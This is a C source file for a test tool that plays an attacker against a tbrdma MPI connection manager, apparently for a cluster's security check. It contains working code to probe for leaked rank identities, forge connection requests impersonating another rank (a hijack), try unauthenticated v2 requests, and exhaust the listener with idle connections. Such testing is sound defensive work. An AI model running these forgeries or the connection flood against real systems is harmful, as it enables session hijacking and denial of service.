/*
 * tb_cm_forge: an attacker's view of a tbrdma connection manager (common/tb_cm.c),
 * for the virtual cluster's "forged" check (guest-mpi-checks).  Plain C, no MPI,
 * nothing from tbrdma: it knows the version-1 wire format only as an attacker
 * would, from reading it, and copies it below.
 *
 * usage: tb_cm_forge [-j JOBID] [-w MS] IP:PORT ACTION...
 * ACTIONs, run in order, each on a new TCP connection to IP:PORT:
 *   probe             send a malformed v1 request; report whether the reply
 *                     reveals an identity (the listener's jobid and vpid)
 *   forge VPID        send a well-formed v1 REQUEST claiming to be (JOBID, VPID)
 *                     with a random but valid address blob; report the answer
 *   forge2 VPID TARGET
 *                     the same in the authenticated version-2 exchange (HELLO,
 *                     CHALLENGE, REQUEST from (JOBID, VPID) to (JOBID, TARGET)
 *                     with a mac the attacker cannot compute: random bytes);
 *                     reports whether the challenge or an answer reveals the
 *                     jobid, and whether the request was accepted
 *   starve COUNT SEC  open COUNT TCP connections, send nothing, hold them SEC
 *                     seconds, then close them
 * -j JOBID  the jobid to claim (and to look for in replies); without it, forge
 *           uses the jobid an earlier probe revealed (probing first if none
 *           did), else 0.
 * -w MS     how long to wait for a reply (default 5000).
 *
 * One line per action on stdout.  A reply that reveals an identity adds
 * "REVEALED jobid J vpid V" to its line (a v1 reply's identity field, or, for
 * the probe, which sends no identity, the -j jobid's four bytes anywhere in
 * whatever came back); a forged request the listener accepted says "ACCEPTED".
 * Exit status: 0 when nothing was revealed and nothing accepted, 1 when
 * something was, 2 on bad usage or when IP:PORT cannot be reached.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* ---- version-1 wire format (common/tb_wire.h, common/tb_cm.c), little-endian ---- */

#define CM_MAGIC 0x4d434254u   /* "TBCM" */
#define ADDR_MAGIC 0x41524254u /* "TBRA" */
#define CM_ID_MAX 64

enum { MSG_REQUEST = 1, MSG_REPLY = 2 };
static const char *const status_names[] = {"ACCEPT", "REFUSED", "COLLISION", "BAD"};

typedef struct __attribute__((packed)) {
    uint32_t magic;
    uint8_t version, nlanes;
    uint16_t mtu;
    uint64_t epoch;
    uint8_t gid[16];
    uint32_t qpn[2], psn[2], frame_size[2];
    uint16_t recv_depth[2];
    uint32_t crc; /* CRC32C of the 60 bytes before it */
} wire_addr_t;

typedef struct __attribute__((packed)) {
    uint32_t magic;
    uint8_t version, type, status, id_len;
    uint8_t id[CM_ID_MAX]; /* Open MPI's opal_process_name_t: {jobid u32, vpid u32} */
    wire_addr_t addr;
} cm_msg_t;

_Static_assert(sizeof(wire_addr_t) == 64, "address blob layout");
_Static_assert(sizeof(cm_msg_t) == 136, "cm message layout");

static uint32_t crc32c(const void *buf, size_t len)
{
    const uint8_t *p = buf;
    uint32_t crc = ~0u;

    while (len--) {
        crc ^= *p++;
        for (int k = 0; k < 8; k++) {
            crc = (crc >> 1) ^ (0x82f63b78u & -(crc & 1));
        }
    }
    return ~crc;
}

/* ---- connections ---- */

static struct sockaddr_in target;
static char where[64];
static int wait_ms = 5000;
static int have_jobid;
static uint32_t jobid;
static int bad_news; /* something revealed or accepted */

static void random_bytes(void *buf, size_t len)
{
    FILE *f = fopen("/dev/urandom", "rb");

    if (!f || fread(buf, 1, len, f) != len) {
        perror("tb_cm_forge: /dev/urandom");
        exit(2);
    }
    fclose(f);
}

static int dial(void)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (fd < 0 || connect(fd, (struct sockaddr *) &target, sizeof(target)) != 0) {
        printf("%s: cannot connect: %s\n", where, strerror(errno));
        exit(2);
    }
    return fd;
}

/* Send msg, then read whatever comes back until the listener closes, nothing
 * arrives for wait_ms (500 ms once something has), or buf is full.  Returns
 * the bytes read; *closed says whether the listener closed the connection. */
static size_t exchange(const cm_msg_t *msg, uint8_t *buf, size_t cap, int *closed)
{
    int fd = dial();
    size_t got = 0;
    struct pollfd p = {.fd = fd, .events = POLLIN};

    *closed = 0;
    if (send(fd, msg, sizeof(*msg), MSG_NOSIGNAL) != (ssize_t) sizeof(*msg)) {
        *closed = 1; /* reset before we could even send */
        close(fd);
        return 0;
    }
    while (got < cap && poll(&p, 1, got ? 500 : wait_ms) > 0) {
        ssize_t n = recv(fd, buf + got, cap - got, 0);
        if (n <= 0) {
            *closed = 1;
            break;
        }
        got += (size_t) n;
    }
    close(fd);
    return got;
}

/* Describe a reply and whether it reveals an identity (appended to line): a v1
 * reply's identity field or, with scan, the known jobid's bytes anywhere (only
 * where we sent none, as a listener may echo a requester's claim).  Returns the
 * status of a v1 reply, -1 for anything else. */
static int judge(const uint8_t *buf, size_t got, int closed, int scan, char *line, size_t len)
{
    const cm_msg_t *m = (const cm_msg_t *) buf;
    size_t off = strlen(line);
    uint32_t j, v;

    if (got >= sizeof(cm_msg_t) && m->magic == CM_MAGIC && m->version == 1 && m->type == MSG_REPLY
        && m->status < 4) {
        off += snprintf(line + off, len - off, "v1 reply %s", status_names[m->status]);
        if (m->id_len == 8) {
            memcpy(&j, m->id, 4);
            memcpy(&v, m->id + 4, 4);
            bad_news = 1;
            snprintf(line + off, len - off, ", REVEALED jobid %u vpid %u", j, v);
            if (!have_jobid) { /* what an attacker keeps for its next request */
                have_jobid = 1;
                jobid = j;
            }
        }
        return m->status;
    }
    off += snprintf(line + off, len - off, "%zu bytes back, %s", got,
                    closed ? "then closed" : "connection left open");
    if (!got && !closed) {
        snprintf(line + off, len - off, " (no answer within %d ms)", wait_ms);
    }
    for (size_t i = 0; scan && have_jobid && i + 4 <= got; i++) {
        memcpy(&j, buf + i, 4);
        if (j == jobid) {
            v = 0;
            if (i + 8 <= got) {
                memcpy(&v, buf + i + 4, 4);
            }
            bad_news = 1;
            snprintf(line + strlen(line), len - strlen(line),
                     ", REVEALED jobid %u vpid %u (at byte %zu)", j, v, i);
            break;
        }
    }
    return -1;
}

static void probe(void)
{
    cm_msg_t m;
    uint8_t buf[4096];
    char line[512];
    int closed;
    size_t got;

    /* A request in the v1 framing that no listener can take: no identity, no blob. */
    memset(&m, 0, sizeof(m));
    m.magic = CM_MAGIC;
    m.version = 1;
    m.type = MSG_REQUEST;
    got = exchange(&m, buf, sizeof(buf), &closed);
    snprintf(line, sizeof(line), "probe %s: ", where);
    judge(buf, got, closed, 1, line, sizeof(line));
    printf("%s\n", line);
}

static void forge(uint32_t vpid)
{
    cm_msg_t m;
    wire_addr_t *a = &m.addr;
    uint8_t buf[4096];
    char line[512];
    int closed;
    size_t got;
    uint32_t r[4];

    if (!have_jobid) {
        probe();
    }
    if (!have_jobid) {
        printf("forge %s: jobid unknown (no -j, and the probe revealed none): claiming 0\n",
               where);
        have_jobid = 1;
        jobid = 0;
    }
    memset(&m, 0, sizeof(m));
    m.magic = CM_MAGIC;
    m.version = 1;
    m.type = MSG_REQUEST;
    m.id_len = 8;
    memcpy(m.id, &jobid, 4);
    memcpy(m.id + 4, &vpid, 4);
    /* What a real rank's blob looks like: RoCE v2 GID of an address on the cable's
     * subnet, random QP numbers and starting sequence numbers, the default lanes. */
    random_bytes(r, sizeof(r));
    a->magic = ADDR_MAGIC;
    a->version = 1;
    a->nlanes = 2;
    a->mtu = 4096;
    random_bytes(&a->epoch, sizeof(a->epoch));
    a->epoch |= 1;
    a->gid[10] = a->gid[11] = 0xff;
    memcpy(a->gid + 12, &target.sin_addr, 4);
    a->gid[15] ^= 3; /* the other end of a /30 */
    for (int l = 0; l < 2; l++) {
        a->qpn[l] = (r[l] & 0xffff) | 0x10;
        a->psn[l] = r[2 + l] & 0xffffff;
        a->recv_depth[l] = 32;
    }
    a->frame_size[0] = 4096;
    a->frame_size[1] = 65536;
    a->crc = crc32c(a, sizeof(*a) - 4);
    got = exchange(&m, buf, sizeof(buf), &closed);
    snprintf(line, sizeof(line), "forge %s as jobid %u vpid %u: ", where, jobid, vpid);
    if (judge(buf, got, closed, 0, line, sizeof(line)) == 0) {
        bad_news = 1;
        snprintf(line + strlen(line), sizeof(line) - strlen(line),
                 ", ACCEPTED: the listener took our blob as that rank's (hijack)");
    } else {
        snprintf(line + strlen(line), sizeof(line) - strlen(line), ", not accepted");
    }
    printf("%s\n", line);
}

static void starve(int count, int seconds)
{
    int *fds = calloc((size_t) count, sizeof(int));
    struct pollfd *p = calloc((size_t) count, sizeof(*p));
    int opened = 0, up = 0, dropped = 0;
    struct timespec t0, t;

    if (!fds || !p) {
        exit(2);
    }
    /* Non-blocking connects: once the listener's backlog is full, a blocking one
     * would wait for the kernel's retries. */
    for (int i = 0; i < count; i++) {
        fds[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        if (fds[i] < 0) {
            break;
        }
        if (connect(fds[i], (struct sockaddr *) &target, sizeof(target)) != 0
            && errno != EINPROGRESS) {
            close(fds[i]);
            fds[i] = -1;
            continue;
        }
        opened++;
    }
    /* Hold them: count the ones that complete, and those the listener closes. */
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (int i = 0; i < count; i++) {
        p[i].fd = fds[i];
        p[i].events = POLLOUT;
    }
    for (;;) {
        long left;
        clock_gettime(CLOCK_MONOTONIC, &t);
        left = seconds * 1000L - ((t.tv_sec - t0.tv_sec) * 1000L
                                  + (t.tv_nsec - t0.tv_nsec) / 1000000L);
        if (left <= 0 || poll(p, (nfds_t) count, (int) left) <= 0) {
            break;
        }
        for (int i = 0; i < count; i++) {
            int err = 0;
            socklen_t elen = sizeof(err);
            char junk[256];
            if (p[i].fd < 0 || !p[i].revents) {
                continue;
            }
            if (p[i].events == POLLOUT) {
                getsockopt(p[i].fd, SOL_SOCKET, SO_ERROR, &err, &elen);
                if (err == 0 && !(p[i].revents & (POLLERR | POLLHUP))) {
                    up++;
                    p[i].events = POLLIN; /* now wait for the listener to close it */
                    continue;
                }
            } else if (recv(p[i].fd, junk, sizeof(junk), MSG_DONTWAIT) > 0) {
                continue; /* it talks: not a close */
            }
            dropped++;
            p[i].fd = -1;
        }
    }
    for (int i = 0; i < count; i++) {
        if (fds[i] >= 0) {
            close(fds[i]);
        }
    }
    printf("starve %s: %d connections opened, %d established, %d closed or refused by the "
           "listener within %d s\n", where, opened, up, dropped, seconds);
    free(fds);
    free(p);
}

/* ---- version-2 wire format (common/tb_wire.h), as public as version 1 ---- */

typedef struct __attribute__((packed)) {
    uint32_t magic;
    uint8_t version, type;
    uint16_t reserved;
    uint8_t nonce[16];
} cm2_nonce_t;

typedef struct __attribute__((packed)) {
    uint32_t magic;
    uint8_t version, type;
    uint16_t reserved;
    uint8_t id_len, peer_id_len, reserved2[6];
    uint8_t id[CM_ID_MAX], peer_id[CM_ID_MAX];
    wire_addr_t addr;
    uint8_t mac[32];
} cm2_request_t;

_Static_assert(sizeof(cm2_nonce_t) == 24, "v2 HELLO/CHALLENGE layout");
_Static_assert(sizeof(cm2_request_t) == 240, "v2 REQUEST layout");

static void forge2(uint32_t vpid, uint32_t target_vpid)
{
    cm2_nonce_t hello, challenge;
    cm2_request_t req;
    uint8_t buf[4096];
    char line[512];
    size_t got = 0;
    int fd = dial(), closed = 0;
    struct pollfd p = {.fd = fd, .events = POLLIN};

    memset(&hello, 0, sizeof(hello));
    hello.magic = CM_MAGIC;
    hello.version = 2;
    hello.type = 1;
    random_bytes(hello.nonce, sizeof(hello.nonce));
    snprintf(line, sizeof(line), "forge2 %s as jobid %u vpid %u to vpid %u: ", where, jobid, vpid,
             target_vpid);
    if (send(fd, &hello, sizeof(hello), MSG_NOSIGNAL) != (ssize_t) sizeof(hello)) {
        printf("%sreset before the HELLO went out, not accepted\n", line);
        close(fd);
        return;
    }
    while (got < sizeof(challenge) && poll(&p, 1, wait_ms) > 0) {
        ssize_t n = recv(fd, buf + got, sizeof(challenge) - got, 0);
        if (n <= 0) {
            closed = 1;
            break;
        }
        got += (size_t) n;
    }
    if (got < sizeof(challenge)) {
        judge(buf, got, closed, 1, line, sizeof(line));
        printf("%s (no challenge), not accepted\n", line);
        close(fd);
        return;
    }
    memcpy(&challenge, buf, sizeof(challenge));
    memset(&req, 0, sizeof(req));
    req.magic = CM_MAGIC;
    req.version = 2;
    req.type = 3;
    req.id_len = req.peer_id_len = 8;
    memcpy(req.id, &jobid, 4);
    memcpy(req.id + 4, &vpid, 4);
    memcpy(req.peer_id, &jobid, 4);
    memcpy(req.peer_id + 4, &target_vpid, 4);
    req.addr.magic = ADDR_MAGIC;
    req.addr.version = 2;
    req.addr.nlanes = 2;
    random_bytes(&req.addr.epoch, sizeof(req.addr.epoch));
    req.addr.crc = crc32c(&req.addr, sizeof(req.addr) - 4);
    random_bytes(req.mac, sizeof(req.mac));
    got = 0;
    if (send(fd, &req, sizeof(req), MSG_NOSIGNAL) == (ssize_t) sizeof(req)) {
        while (got < sizeof(buf) && poll(&p, 1, got ? 500 : wait_ms) > 0) {
            ssize_t n = recv(fd, buf + got, sizeof(buf) - got, 0);
            if (n <= 0) {
                closed = 1;
                break;
            }
            got += (size_t) n;
        }
    } else {
        closed = 1;
    }
    close(fd);
    /* The challenge must carry nothing but a nonce; an answer to a request with
     * a made-up mac must not come at all (a REPLY is 112 bytes, status at 8). */
    if (have_jobid) {
        for (size_t i = 0; i + 4 <= sizeof(challenge); i++) {
            uint32_t j;
            memcpy(&j, (uint8_t *) &challenge + i, 4);
            if (j == jobid) {
                bad_news = 1;
                snprintf(line + strlen(line), sizeof(line) - strlen(line),
                         "the challenge REVEALED jobid %u; ", j);
                break;
            }
        }
    }
    if (got >= 112 && buf[8] == 0) {
        bad_news = 1;
        printf("%sa %zu-byte answer with status ACCEPT: ACCEPTED\n", line, got);
        return;
    }
    judge(buf, got, closed, 1, line, sizeof(line));
    printf("%s, not accepted\n", line);
}

static void usage(void)
{
    fprintf(stderr, "usage: tb_cm_forge [-j JOBID] [-w MS] IP:PORT "
                    "{probe | forge VPID | forge2 VPID TARGET | starve COUNT SECONDS}...\n");
    exit(2);
}

int main(int argc, char **argv)
{
    char ip[INET_ADDRSTRLEN];
    unsigned port;
    int opt;

    setvbuf(stdout, NULL, _IOLBF, 0);
    while ((opt = getopt(argc, argv, "j:w:")) != -1) {
        if (opt == 'j') {
            jobid = (uint32_t) strtoul(optarg, NULL, 0);
            have_jobid = 1;
        } else if (opt == 'w') {
            wait_ms = atoi(optarg);
        } else {
            usage();
        }
    }
    if (optind + 2 > argc || sscanf(argv[optind], "%15[0-9.]:%u", ip, &port) != 2 || !port
        || port > 65535) {
        usage();
    }
    memset(&target, 0, sizeof(target));
    target.sin_family = AF_INET;
    target.sin_port = htons((uint16_t) port);
    if (inet_pton(AF_INET, ip, &target.sin_addr) != 1) {
        usage();
    }
    snprintf(where, sizeof(where), "%s:%u", ip, port);
    for (int i = optind + 1; i < argc; i++) {
        if (!strcmp(argv[i], "probe")) {
            probe();
        } else if (!strcmp(argv[i], "forge") && i + 1 < argc) {
            forge((uint32_t) strtoul(argv[++i], NULL, 0));
        } else if (!strcmp(argv[i], "forge2") && i + 2 < argc) {
            uint32_t v = (uint32_t) strtoul(argv[i + 1], NULL, 0);
            forge2(v, (uint32_t) strtoul(argv[i + 2], NULL, 0));
            i += 2;
        } else if (!strcmp(argv[i], "starve") && i + 2 < argc) {
            int count = atoi(argv[i + 1]), seconds = atoi(argv[i + 2]);
            i += 2;
            if (count < 1 || seconds < 0) {
                usage();
            }
            starve(count, seconds);
        } else {
            usage();
        }
    }
    return bad_news ? 1 : 0;
}
